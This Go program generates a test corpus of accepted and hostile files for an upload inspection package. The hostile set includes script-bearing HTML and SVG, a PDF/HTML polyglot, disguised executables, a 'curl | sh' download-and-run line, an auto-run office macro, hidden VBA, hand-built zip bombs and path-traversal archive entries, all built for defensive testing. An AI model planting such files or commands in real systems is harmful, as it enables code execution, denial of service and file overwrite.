// Command gen writes the test corpus of package inspect: files that must be accepted (good/) and
// hostile files that must be refused (hostile/). Its output is committed, and a test regenerates
// it and compares, so the generator must stay deterministic: fixed zip timestamps, no randomness.
//
//	go run ./contributions/inspect/testdata/gen          # writes next to this generator
//	go run ./contributions/inspect/testdata/gen -out DIR # writes DIR/good and DIR/hostile
package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"flag"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"log"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"time"
)

func main() {
	out := flag.String("out", defaultOut(), "directory to write good/ and hostile/ into")
	flag.Parse()
	if *out == "" {
		log.Fatal("cannot tell where the testdata directory is; pass -out")
	}
	for dir, files := range map[string]map[string][]byte{"good": good(), "hostile": hostile()} {
		d := filepath.Join(*out, dir)
		// Start empty, so a file the generator no longer makes does not linger in the corpus.
		if err := os.RemoveAll(d); err != nil {
			log.Fatal(err)
		}
		if err := os.MkdirAll(d, 0o755); err != nil {
			log.Fatal(err)
		}
		for name, data := range files {
			if err := os.WriteFile(filepath.Join(d, name), data, 0o644); err != nil {
				log.Fatal(err)
			}
		}
	}
}

// defaultOut is the testdata directory holding this generator's source.
func defaultOut() string {
	_, file, _, ok := runtime.Caller(0)
	if !ok || !filepath.IsAbs(file) {
		return ""
	}
	return filepath.Dir(filepath.Dir(file))
}

func good() map[string][]byte {
	return map[string][]byte{
		"good.pdf":  pdf(""),
		"good.docx": docx(),
		"good.pptx": pptx(),
		"good.xlsx": xlsx(),
		"good.odt":  odf("text"),
		"good.odp":  odf("presentation"),
		"good.ods":  odf("spreadsheet"),
		"good.txt": []byte("\ufeffContribution C5/2026/C/007\n" +
			"الأمن السيبراني وبناء الثقة في استخدام تكنولوجيا المعلومات والاتصالات\n" +
			"建立使用信息通信技术的信心和安全\n"),
		"good.md": []byte("# Chairman's Report\n\n1. Opening of the meeting\n\n" +
			"The meeting adopted the agenda (<span>C5/2026/A/001</span>).\n\n| a | b |\n|---|---|\n| 网络 | أمن |\n"),
		// Starts like an executable but is text: only the start of a file is sniffed.
		"good-mz.txt": []byte("MZ Hassan: notes from the session on watch, warning and incident response.\n"),
		"good.png":    encodePNG(),
		"good.jpg":    encodeJPEG(),
	}
}

func hostile() map[string][]byte {
	html := []byte("<!DOCTYPE html>\n<html><body><script>fetch('/api/me').then(r=>r.text()).then(alert)</script></body></html>\n")
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>` + "\n")
	vba := fakeVBAProject()

	return map[string][]byte{
		"empty.pdf":          {},
		"html-renamed.pdf":   html,
		"html-renamed.txt":   append([]byte("\n\t "), []byte("<HTML><script>alert(1)</script>")...),
		"html-comment.md":    []byte("<!-- notes --><script>alert(1)</script>\n"),
		"polyglot.pdf":       pdf("%<html><body><script>alert(document.domain)</script></body></html>\n"),
		"svg-script.svg":     svg,
		"svg-script.png":     append([]byte(`<?xml version="1.0" encoding="UTF-8"?>`+"\n"), svg...),
		"report.html":        pdf(""),
		"exe-renamed.pdf":    executable(),
		"elf-renamed.png":    append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 56)...),
		"macho-renamed.docx": append([]byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01"), make([]byte, 56)...),
		"script-renamed.txt": []byte("#!/bin/sh\ncurl -s https://example.invalid/x | sh\n"),
		"jpeg-named.png":     encodeJPEG(),
		"text-named.pdf":     []byte("Just some text, not a PDF.\n"),
		"old-office.docx":    append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 504)...),
		"no-extension":       pdf(""),
		"archive.zip":        zipOf(file("readme.txt", "hello")),
		"invalid-utf8.txt":   []byte("Caf\xe9 cr\xe8me: Latin-1, not UTF-8\n"),
		"nul-bytes.txt":      []byte("abc\x00def\n"),
		"utf16.txt":          []byte("\xff\xfeh\x00i\x00\n\x00"),
		"truncated.pdf":      pdf("")[:200],
		"truncated.docx":     docx()[:len(docx())/2],
		"zip-named.docx":     zipOf(file("readme.txt", "not a document")),
		"pptx-named.docx":    pptx(),
		"odt-named.ods":      odf("text"),
		"mimetype-deflated.odt": zipOf(
			entry{name: "mimetype", data: []byte("application/vnd.oasis.opendocument.text")},
			file("content.xml", odfContent("text"))),
		"macro.docm": docx(),
		"macro-renamed.docx": zipOf(
			file("[Content_Types].xml", contentTypes(
				`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`,
				`<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`)),
			file("_rels/.rels", rels("word/document.xml")),
			file("word/document.xml", wordDocument),
			file("word/_rels/document.xml.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+
				`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
				`<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`+
				`</Relationships>`),
			entry{name: "word/vbaProject.bin", data: vba}),
		// The VBA project hidden under an innocent name, with no content type or relationship.
		"macro-hidden.docx": zipOf(append(docxEntries(), entry{name: "word/embeddings/oleObject1.bin", data: vba})...),
		"macro.odt": zipOf(append(odfEntries("text"),
			file("Basic/script-lc.xml", `<library:libraries xmlns:library="http://openoffice.org/2000/library"/>`),
			file("Basic/Standard/Module1.xml", `<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub AutoOpen
  Shell("calc.exe")
End Sub</script:module>`))...),
		"bomb.docx":                zipOf(append(docxEntries()[:2], entry{name: "word/document.xml", data: make([]byte, 20<<20)})...),
		"bomb-lying-header.docx":   lyingBomb(),
		"overlap-bomb.docx":        overlapBomb(),
		"many-entries.docx":        manyEntries(2001),
		"traversal-dotdot.docx":    zipOf(append(docxEntries(), file("../../evil.sh", "#!/bin/sh\n"))...),
		"traversal-absolute.docx":  zipOf(append(docxEntries(), file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n"))...),
		"traversal-backslash.docx": zipOf(append(docxEntries(), file(`..\evil.bat`, "echo\r\n"))...),
		"traversal-drive.docx":     zipOf(append(docxEntries(), file("C:/Windows/evil.dll", "x"))...),
		"duplicate.docx":           zipOf(append(docxEntries(), file("word/document.xml", wordDocument))...),
	}
}

// fixedTime is the timestamp of every generated zip entry, so the output never changes.
var fixedTime = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

// entry is one zip entry; store writes it uncompressed, as OpenDocument needs for its mimetype.
type entry struct {
	name  string
	data  []byte
	store bool
}

func file(name, data string) entry { return entry{name: name, data: []byte(data)} }

func zipOf(entries ...entry) []byte {
	var buf bytes.Buffer
	w := newZipWriter(&buf)
	for _, e := range entries {
		h := header(e.name)
		var fw io.Writer
		var err error
		if e.store {
			// Sizes in the local header, no data descriptor: how office suites store the
			// OpenDocument mimetype, readable at a fixed offset.
			h.Method = zip.Store
			h.CRC32 = crc32.ChecksumIEEE(e.data)
			h.CompressedSize64 = uint64(len(e.data))
			h.UncompressedSize64 = uint64(len(e.data))
			fw, err = w.CreateRaw(h)
		} else {
			fw, err = w.CreateHeader(h)
		}
		must(err)
		_, err = fw.Write(e.data)
		must(err)
	}
	must(w.Close())
	return buf.Bytes()
}

func newZipWriter(w io.Writer) *zip.Writer {
	zw := zip.NewWriter(w)
	// The best compression makes the bombs as small as they can be; all output stays reproducible.
	zw.RegisterCompressor(zip.Deflate, func(out io.Writer) (io.WriteCloser, error) {
		return flate.NewWriter(out, flate.BestCompression)
	})
	return zw
}

func header(name string) *zip.FileHeader {
	h := &zip.FileHeader{Name: name, Method: zip.Deflate}
	h.Modified = fixedTime
	return h
}

func must(err error) {
	if err != nil {
		log.Fatal(err)
	}
}

func deflate(data []byte) []byte {
	var buf bytes.Buffer
	fw, err := flate.NewWriter(&buf, flate.BestCompression)
	must(err)
	_, err = fw.Write(data)
	must(err)
	must(fw.Close())
	return buf.Bytes()
}

// lyingBomb is a DOCX whose document part claims 1,000 bytes but expands to 20 MiB.
func lyingBomb() []byte {
	var buf bytes.Buffer
	w := newZipWriter(&buf)
	for _, e := range docxEntries()[:2] {
		fw, err := w.CreateHeader(header(e.name))
		must(err)
		_, err = fw.Write(e.data)
		must(err)
	}
	zeros := make([]byte, 20<<20)
	comp := deflate(zeros)
	h := header("word/document.xml")
	h.CRC32 = crc32.ChecksumIEEE(zeros)
	h.CompressedSize64 = uint64(len(comp))
	h.UncompressedSize64 = 1000
	fw, err := w.CreateRaw(h)
	must(err)
	_, err = fw.Write(comp)
	must(err)
	must(w.Close())
	return buf.Bytes()
}

// overlapBomb is a zip whose central directory lists many entries that all point at the same
// compressed data, the way the smallest zip bombs multiply their expansion. archive/zip cannot
// write one, so it is put together by hand.
func overlapBomb() []byte {
	data := make([]byte, 1<<20)
	comp := deflate(data)
	crc := crc32.ChecksumIEEE(data)
	le := binary.LittleEndian
	var buf bytes.Buffer
	local := func(name string) {
		for _, v := range []any{uint32(0x04034b50), uint16(20), uint16(0), uint16(zip.Deflate), uint16(0), uint16(dosDate),
			crc, uint32(len(comp)), uint32(len(data)), uint16(len(name)), uint16(0)} {
			must(binary.Write(&buf, le, v))
		}
		buf.WriteString(name)
	}
	local("word/document.xml")
	buf.Write(comp)
	cdStart := buf.Len()
	const n = 64
	for i := range n {
		name := "word/document.xml"
		if i > 0 {
			name = fmt.Sprintf("word/part%02d.xml", i)
		}
		for _, v := range []any{uint32(0x02014b50), uint16(20), uint16(20), uint16(0), uint16(zip.Deflate), uint16(0), uint16(dosDate),
			crc, uint32(len(comp)), uint32(len(data)), uint16(len(name)), uint16(0), uint16(0), uint16(0), uint16(0), uint32(0), uint32(0)} {
			must(binary.Write(&buf, le, v))
		}
		buf.WriteString(name)
	}
	cdSize := buf.Len() - cdStart
	for _, v := range []any{uint32(0x06054b50), uint16(0), uint16(0), uint16(n), uint16(n), uint32(cdSize), uint32(cdStart), uint16(0)} {
		must(binary.Write(&buf, le, v))
	}
	return buf.Bytes()
}

// dosDate is 2026-01-01 in the MS-DOS date format zip headers use.
const dosDate = (2026-1980)<<9 | 1<<5 | 1

// manyEntries is a DOCX with n entries in all. Empty stored entries without timestamps (the zero
// DOS date) keep the file small: about 80 bytes an entry.
func manyEntries(n int) []byte {
	var buf bytes.Buffer
	w := newZipWriter(&buf)
	for _, e := range docxEntries() {
		fw, err := w.CreateHeader(header(e.name))
		must(err)
		_, err = fw.Write(e.data)
		must(err)
		n--
	}
	for i := range n {
		_, err := w.CreateRaw(&zip.FileHeader{Name: fmt.Sprintf("x/%d", i), Method: zip.Store})
		must(err)
	}
	must(w.Close())
	return buf.Bytes()
}

// executable is the start of a Windows program: a DOS header pointing at a PE header.
func executable() []byte {
	b := make([]byte, 256)
	copy(b, "MZ\x90\x00\x03")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x4e:], "This program cannot be run in DOS mode.\r\r\n$")
	copy(b[0x80:], "PE\x00\x00\x4c\x01")
	return b
}

// fakeVBAProject is the start of a compound file holding a VBA project: what matters to the
// inspection is the UTF-16 name of the _VBA_PROJECT stream every VBA project has.
func fakeVBAProject() []byte {
	b := make([]byte, 1024)
	copy(b, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1")
	for i, name := range []string{"VBA", "_VBA_PROJECT", "PROJECT", "dir"} {
		off := 512 + i*128
		for j, c := range name {
			b[off+2*j] = byte(c)
		}
	}
	return b
}

// pdf is a minimal valid one-page PDF; extra goes right after the header line, where a polyglot
// hides its HTML in a PDF comment.
func pdf(extra string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	b.WriteString(extra)
	stream := "BT /F1 24 Tf 72 760 Td (C5/2026/C/007) Tj ET\n"
	objects := []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%sendstream", len(stream), stream),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	offsets := make([]int, len(objects))
	for i, o := range objects {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, xref)
	return b.Bytes()
}

const xmlHeader = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"

func contentTypes(parts ...string) string {
	return xmlHeader + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/>` + strings.Join(parts, "") + `</Types>`
}

func rels(target string) string {
	return xmlHeader + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="` +
		target + `"/></Relationships>`
}

const wordDocument = xmlHeader + `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` +
	`<w:body><w:p><w:r><w:t>Contribution C5/2026/C/007</w:t></w:r></w:p></w:body></w:document>`

func docxEntries() []entry {
	return []entry{
		file("[Content_Types].xml", contentTypes(`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>`)),
		file("_rels/.rels", rels("word/document.xml")),
		file("word/document.xml", wordDocument),
	}
}

func docx() []byte { return zipOf(docxEntries()...) }

// pptx holds the parts the inspection needs and one slide; it is not a complete deck (no master,
// layout or theme), which PowerPoint would want.
func pptx() []byte {
	const p = `xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	return zipOf(
		file("[Content_Types].xml", contentTypes(
			`<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>`,
			`<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>`)),
		file("_rels/.rels", rels("ppt/presentation.xml")),
		file("ppt/presentation.xml", xmlHeader+`<p:presentation `+p+`><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>`+
			`<p:sldSz cx="12192000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`),
		file("ppt/_rels/presentation.xml.rels", xmlHeader+`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide" Target="slides/slide1.xml"/></Relationships>`),
		file("ppt/slides/slide1.xml", xmlHeader+`<p:sld `+p+`><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr>`+
			`<p:grpSpPr/></p:spTree></p:cSld></p:sld>`),
	)
}

func xlsx() []byte {
	return zipOf(
		file("[Content_Types].xml", contentTypes(
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>`,
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`)),
		file("_rels/.rels", rels("xl/workbook.xml")),
		file("xl/workbook.xml", xmlHeader+`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">`+
			`<sheets><sheet name="Participants" sheetId="1" r:id="rId1"/></sheets></workbook>`),
		file("xl/_rels/workbook.xml.rels", xmlHeader+`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+
			`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
		file("xl/worksheets/sheet1.xml", xmlHeader+`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`+
			`<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Member State</t></is></c></row></sheetData></worksheet>`),
	)
}

func odfContent(kind string) string {
	body := map[string]string{
		"text":         `<office:text><text:p>Contribution C5/2026/C/007</text:p></office:text>`,
		"spreadsheet":  `<office:spreadsheet><table:table table:name="Sheet1"><table:table-row><table:table-cell office:value-type="string"><text:p>Member State</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>`,
		"presentation": `<office:presentation><draw:page draw:name="page1"/></office:presentation>`,
	}[kind]
	return xmlHeader + `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ` +
		`xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" ` +
		`xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" office:version="1.3"><office:body>` + body +
		`</office:body></office:document-content>`
}

func odfEntries(kind string) []entry {
	mt := "application/vnd.oasis.opendocument." + kind
	return []entry{
		{name: "mimetype", data: []byte(mt), store: true},
		file("META-INF/manifest.xml", xmlHeader+`<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">`+
			`<manifest:file-entry manifest:full-path="/" manifest:version="1.3" manifest:media-type="`+mt+`"/>`+
			`<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>`),
		file("content.xml", odfContent(kind)),
	}
}

func odf(kind string) []byte { return zipOf(odfEntries(kind)...) }

func picture() image.Image {
	img := image.NewNRGBA(image.Rect(0, 0, 16, 16))
	for y := range 16 {
		for x := range 16 {
			img.Set(x, y, color.NRGBA{uint8(x * 16), uint8(y * 16), 0x80, 0xff})
		}
	}
	return img
}

func encodePNG() []byte {
	var b bytes.Buffer
	must(png.Encode(&b, picture()))
	return b.Bytes()
}

func encodeJPEG() []byte {
	var b bytes.Buffer
	must(jpeg.Encode(&b, picture(), &jpeg.Options{Quality: 80}))
	return b.Bytes()
}
